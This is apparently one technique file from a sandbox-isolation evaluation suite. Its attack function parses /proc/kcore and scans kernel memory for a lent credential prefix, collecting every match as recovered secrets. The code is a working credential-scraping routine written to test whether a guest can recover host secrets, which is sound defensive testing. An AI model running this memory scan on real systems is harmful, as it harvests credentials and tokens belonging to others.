"""What a kernel has seen lies in its memory."""

import struct
from typing import Any

from space_evaluate.inside import Case
from space_evaluate.technique import HOST_SECRET, Technique

TECHNIQUE = Technique(
    tries="Search all of the guest's memory for the lent credential, after it was used.",
    claim="C1",
    defences=("whose a grant is and what it permits",),
    stopped_by=("guest:",),
    goals=(HOST_SECRET,),
    seconds=120.0,
    blank="the value never enters a guest: there is no defence in it to take away",
)


def attack(case: Case, what: Any) -> None:
    case.http("api.example.com", "/me")
    hits, looked = [], 0
    needle = b"lent" + b"-"
    with open("/proc/kcore", "rb", buffering=0) as core:
        head = core.read(64)
        at, size, count = struct.unpack_from("<Q", head, 32)[0], *struct.unpack_from("<HH", head, 54)
        core.seek(at)
        for part in [core.read(size) for _ in range(count)]:
            kind, _, offset, virtual, _, length, _, _ = struct.unpack("<IIQQQQQQ", part[:56])
            if kind != 1 or length > 1 << 30 or (virtual >> 40 != 0xFFFF88 >> 0 and not 0xFFFF880000000000 <= virtual < 0xFFFFC80000000000):
                continue
            core.seek(offset)
            while looked < 300 << 20 and (data := core.read(1 << 20)):
                looked += len(data)
                found = data.find(needle)
                while found >= 0:
                    hits.append(data[found : found + 48])
                    found = data.find(needle, found + 1)
                if core.tell() >= offset + length:
                    break
    case.did(f"searched {looked >> 20} MiB of memory, {len(hits)} places begin like it")
    case.got(b"\n".join(hits[:500]))
    case.refused("no place has it")
